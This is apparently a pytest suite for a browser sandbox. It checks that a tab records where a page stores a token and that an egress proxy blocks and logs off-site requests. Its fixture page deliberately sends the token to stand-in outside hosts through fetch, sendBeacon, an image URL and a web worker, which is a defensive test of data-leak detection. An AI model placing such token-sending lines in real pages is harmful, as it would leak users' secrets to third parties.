"""What a tab records of a page that puts a token everywhere; no request leaves the site."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import BrowserContext

from ohifbuild.core.console import SilentReporter
from ohifbuild.verification.browser import find_browser, started
from ohifbuild.verification.egress_proxy import EgressProxy, egress_proxy
from ohifbuild.verification.session import Tab, tab
from ohifbuild.verification.windows import window

TOKEN = "s3cret-token-9f2c"
PAGE = f"""<!doctype html><meta charset="utf-8"><title>leaks</title><p data-x="{TOKEN}">page</p><script>
const token = '{TOKEN}';
localStorage.setItem('a', token);
sessionStorage.setItem('b', token);
document.cookie = 'c=' + token;
window.name = token;
history.pushState({{ token }}, '', '/page?t=' + token);
console.warn('here it is: ' + token);
fetch('/own', {{ headers: {{ token }} }});
fetch('http://fetch.example/?' + token).catch(() => {{}});
navigator.sendBeacon('https://beacon.example/', token);
new WebSocket('wss://socket.example/');
new Image().src = 'http://10.9.8.7/' + token;
new Worker('/worker.js');
(async () => {{
  const opened = indexedDB.open('d', 1);
  opened.onupgradeneeded = () => opened.result.createObjectStore('s').put({{ token }}, 1);
  await new Promise(done => (opened.onsuccess = done));
  await (await caches.open('e')).put('/cached?' + token, new Response('x'));
  document.title = 'done';
  setTimeout(() => {{ throw new Error('uncaught: ' + token) }});
}})();
</script>"""
# The first page goes on to the second. Both send a request and write to the console. A script of the second page wraps
# XMLHttpRequest, and a policy follows that script.
FIRST = "<!doctype html><script>fetch('/first'); console.log('one'); location.replace('/second?a')</script>"
SECOND = """<!doctype html><script>
const { open } = XMLHttpRequest.prototype;
XMLHttpRequest.prototype.open = function (method, url) { return open.call(this, method, String(url)); };
fetch('/own'); console.log('two'); document.title = 'done';
</script><meta http-equiv="Content-Security-Policy" content="default-src 'self'">"""
HELD = """<!doctype html><meta http-equiv="content-security-policy" content="default-src 'self'; img-src data:">
<link rel="icon" href="data:,"><script src="/title.js"></script><script>document.title = 'not run'</script>"""
# Requests and prints until it is left.
RESTLESS = """<!doctype html><link rel="icon" href="data:,"><script>
(async () => {
  for (;;) {
    console.log('restless');
    await fetch('/mine');
  }
})();
</script>"""
LATE = "<!doctype html><link rel='icon' href='data:,'><script>console.log('late'); fetch('/other')</script>"
# A browser has six connections to a server (Chromium), so the last request waits in it.
CROWDED = f"""<!doctype html><link rel="icon" href="data:,"><script>
for (let number = 0; number < 6; number += 1) {{
  fetch(`/held-up?${{number}}`);
}}
fetch('/queued', {{ headers: {{ token: '{TOKEN}' }} }});
document.title = 'done';
</script>"""
PAGES = {
    "/crowded": CROWDED,
    "/restless": RESTLESS,
    "/late": LATE,
    "/": PAGE,
    "/first": FIRST,
    "/second": SECOND,
    "/held": HELD,
    "/title.js": "document.title = 'done'",
}
WORKER = (
    f"fetch('/from-worker', {{ headers: {{ token: '{TOKEN}' }} }}); fetch('http://worker.example/').catch(() => {{}});"
)


class LeakyServer(BaseHTTPRequestHandler):
    asked = threading.Condition()
    of_restless = 0
    go_on = threading.Event()

    def do_GET(self) -> None:
        with self.asked:
            if self.path == "/mine":
                LeakyServer.of_restless += 1
                self.asked.notify_all()
            if self.path == "/late":  # comes when the page that is being left has asked a few times more
                before = LeakyServer.of_restless
                self.asked.wait_for(lambda: LeakyServer.of_restless > before + 3)
        if self.path.startswith("/held-up"):
            self.go_on.wait()
        script = self.path.endswith(".js")
        body = {**PAGES, "/worker.js": WORKER}.get(self.path.partition("?")[0], "{}").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if script else "text/html")
        self.send_header("Content-Security-Policy", "" if self.path != "/held" else "frame-ancestors 'self'")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@dataclass(frozen=True)
class Visit:
    """A browser window that reaches one origin; the proxy refuses and records all other requests."""

    origin: str
    context: BrowserContext
    proxy: EgressProxy

    @contextmanager
    def tab(self) -> Iterator[Tab]:
        with tab(self.context, self.origin) as page:
            yield page


@pytest.fixture(scope="module")
def visit() -> Iterator[Visit]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), LeakyServer)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    origin, reporter = f"http://127.0.0.1:{server.server_port}", SilentReporter()
    with (
        egress_proxy() as proxy,
        started(find_browser(reporter), reporter) as browser,
        window(browser, origin, proxy) as context,
    ):
        yield Visit(origin, context, proxy)
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def visited(visit: Visit) -> Iterator[tuple[Tab, EgressProxy]]:
    with visit.tab() as page:
        page.go(f"{visit.origin}/?{TOKEN}")
        assert page.until(lambda: page.page.title() == "done" and page.recorded(page.recording).errors)
        assert page.until(lambda: any("worker.example" in attempt for attempt in visit.proxy.attempts()))
        page.quiet()
        yield page, visit.proxy


def test_the_state_has_every_place_where_a_page_can_keep_a_token(visited: tuple[Tab, EgressProxy]) -> None:
    state = visited[0].state()
    places = {
        "url": state.url,
        "history": "\n".join(state.history),
        "history state": state.history_state,
        "localStorage": state.local["a"],
        "sessionStorage": state.session["b"],
        "cookies": "\n".join(state.cookies),
        "IndexedDB": "\n".join(state.databases),
        "caches": "\n".join(state.caches),
        "window.name": state.window_name,
        "document": state.html,
        "console": "\n".join(visited[0].recorded(visited[0].recording).console),
        "errors": "\n".join(visited[0].recorded(visited[0].recording).errors),
        "timings": "\n".join(state.timings),
        "navigations": "\n".join(state.visits),
    }
    assert [place for place, text in places.items() if TOKEN not in text] == []


def test_sent_requests_have_the_headers_of_page_and_worker(visited: tuple[Tab, EgressProxy]) -> None:
    carrying = {
        request.url.rpartition("/")[2]
        for request in visited[0].recorded(visited[0].recording).sent
        if ("token", TOKEN) in request.headers
    }
    assert carrying == {"own", "from-worker"}


def test_the_proxy_records_every_attempt_to_leave_the_site(visited: tuple[Tab, EgressProxy]) -> None:
    attempts = "\n".join(visited[1].attempts())
    for target in ("fetch.example", "beacon.example:443", "socket.example:443", "10.9.8.7", "worker.example"):
        assert target in attempts


def paths(page: Tab) -> list[str]:
    return [request.url.removeprefix(page.origin) for request in page.recorded(page.recording).sent]


def test_a_page_and_the_page_it_goes_on_to_are_one_recording(visit: Visit) -> None:
    with visit.tab() as page:
        page.go(f"{visit.origin}/first?{TOKEN}")
        assert page.until(lambda: page.page.title() == "done")
        page.quiet()
        assert [path for path in paths(page) if "favicon" not in path] == [
            f"/first?{TOKEN}",
            "/first",
            "/second?a",
            "/own",
        ]
        assert [line.split(" (")[0] for line in page.recorded(page.recording).console if line.startswith("log")] == [
            "log: one",
            "log: two",
        ]
        page.go(f"{visit.origin}/held")
        assert page.until(lambda: page.page.title() == "done")
        assert paths(page)[:2] == ["/held", "/title.js"]


def test_what_a_page_does_while_it_is_being_left_belongs_to_its_own_recording(visit: Visit) -> None:
    with visit.tab() as page:
        page.go(f"{visit.origin}/restless")
        restless = page.recording
        assert page.until(lambda: "/mine" in paths(page))
        known = len(page.recorded(restless).sent)
        page.go(f"{visit.origin}/late")
        assert page.until(lambda: "/other" in paths(page))
        page.quiet()
        before, after = page.recorded(restless), page.recorded(page.recording)
        assert paths(page) == ["/late", "/other"]
        assert [line.split(" (")[0] for line in after.console] == ["log: late"]
        assert {request.url.removeprefix(page.origin) for request in before.sent} == {"/restless", "/mine"}
        assert len(before.sent) > known + 3
        assert {line.split(" (")[0] for line in before.console} == {"log: restless"}


def test_a_stack_and_a_console_line_name_the_script_that_they_come_from(visit: Visit) -> None:
    with visit.tab() as page:
        page.go(f"{visit.origin}/second?{TOKEN}")
        assert page.until(lambda: page.page.title() == "done")
        assert f"/second?{TOKEN}" in page.state().stack
        assert f"/second?{TOKEN}" in "\n".join(page.recorded(page.recording).console)


def test_a_policy_counts_only_before_every_script(visit: Visit) -> None:
    with visit.tab() as page:
        page.go(f"{visit.origin}/second")
        assert page.until(lambda: page.page.title() == "done")
        assert (page.state().policy, page.state().served_policy) == ("", "")
        page.go(f"{visit.origin}/held")
        assert page.until(lambda: page.page.title() == "done")
        assert page.state().policy == "default-src 'self'; img-src data:"
        assert page.state().served_policy == "frame-ancestors 'self'"


@pytest.mark.parametrize("how", ["go_in_frame", "go_from_opener"])
def test_a_page_in_a_frame_or_an_opened_window_is_recorded_like_any_other(visit: Visit, how: str) -> None:
    with visit.tab() as page:
        getattr(page, how)(f"{visit.origin}/first")
        assert page.until(lambda: page.state().url == f"{visit.origin}/second?a")
        page.quiet()
        assert [path for path in paths(page) if "favicon" not in path] == ["/first", "/first", "/second?a", "/own"]
        assert f"{visit.origin}/second?a" in "\n".join(page.state().visits)


def test_ask_uses_fetch_xhr_and_an_image(visit: Visit) -> None:
    with visit.tab() as page:
        page.go(f"{visit.origin}/held")
        assert page.until(lambda: page.page.title() == "done")
        page.begin()
        page.ask("/own?")
        page.quiet()
        kinds = {request.url[-1]: request.resource_type for request in page.recorded(page.recording).sent}
        assert kinds["1"] == "fetch"
        assert kinds["2"] == "xhr"
        # The policy of this page blocks images of its own origin.
        assert "3" not in kinds or page.recorded(page.recording).sent[-1].status is None


def test_a_page_whose_requests_never_end_is_not_waited_for(visit: Visit) -> None:
    with visit.tab() as page:
        page.go(f"{visit.origin}/held")
        assert page.until(lambda: page.page.title() == "done")
        page.page.evaluate("() => void (window.fetch = () => new Promise(() => {}))")
        page.ask("/own?")


def test_requests_without_an_answer_are_on_record_and_hold_nobody_up(visit: Visit) -> None:
    with visit.tab() as page:
        try:
            page.go(f"{visit.origin}/crowded")
            assert page.until(lambda: page.page.title() == "done")
            sent = {each.url.removeprefix(visit.origin): each for each in page.recorded(page.recording).sent}
        finally:
            LeakyServer.go_on.set()
    held_up, queued = sent["/held-up?0"], sent["/queued"]
    assert (held_up.status, queued.status) == (None, None)
    assert ("token", TOKEN) in queued.headers
    assert "sec-fetch-mode" in dict(held_up.headers)  # the network added it
